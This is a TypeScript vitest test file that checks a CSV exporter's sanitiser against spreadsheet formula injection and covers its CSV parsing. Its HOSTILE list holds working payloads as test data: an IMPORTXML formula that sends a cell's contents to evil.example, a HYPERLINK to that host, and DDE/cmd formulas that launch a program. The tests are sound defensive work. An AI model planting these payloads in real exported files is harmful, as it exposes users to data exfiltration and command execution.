import { describe, expect, it } from "vitest";

import { parseCsv, toCsv, unescapeText } from "@/lib/export/csv";
import { safeCell, safeText } from "@/lib/export/sanitize";

const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
];

describe("formula injection", () => {
  it.each(HOSTILE)("neutralises %j", (s) => {
    const safe = safeText(s);
    expect(safe.startsWith("'")).toBe(true);
    expect(safe.slice(1)).toBe(s);
  });

  it("leaves ordinary text, numbers and negatives-as-numbers alone", () => {
    expect(safeText("Kubernetes canary deployments")).toBe("Kubernetes canary deployments");
    expect(safeText("資深 MLOps 工程師")).toBe("資深 MLOps 工程師");
    expect(safeCell(3)).toBe(3);
    expect(safeCell(-1)).toBe(-1);
    expect(safeCell(0)).toBe(0);
    expect(safeCell(null)).toBeNull();
    expect(safeCell(Number.NaN)).toBeNull();
  });
});

describe("CSV", () => {
  const rows = [
    ["email", "skill, with comma", 'quote "inside"', "multi\nline"],
    ["ana@acme.test", 3, null, "=evil()"],
    ["bo@acme.test", 0, 4, "中文"],
  ];

  it("round-trips through our own parser (formula cells come back escaped, and unescape)", () => {
    const parsed = parseCsv(toCsv(rows));
    expect(parsed).toEqual([
      ["email", "skill, with comma", 'quote "inside"', "multi\nline"],
      ["ana@acme.test", "3", "", "'=evil()"],
      ["bo@acme.test", "0", "4", "中文"],
    ]);
    expect(unescapeText(parsed[1]![3]!)).toBe("=evil()");
  });

  it("parses LF and CRLF files, skipping blank lines and a BOM", () => {
    expect(parseCsv("\uFEFFa,b\n1,2\n\n")).toEqual([
      ["a", "b"],
      ["1", "2"],
    ]);
    expect(parseCsv("a,b\r\n1,2\r\n")).toEqual([
      ["a", "b"],
      ["1", "2"],
    ]);
  });

  it("names the line of malformed quoting", () => {
    expect(() => parseCsv('a,b\n1,"open\n2,3')).toThrow(/line 3: a quoted field is not closed/);
    expect(() => parseCsv('a,b\n1,x"y"\n')).toThrow(/line 2: a quote may only start a field/);
  });
});
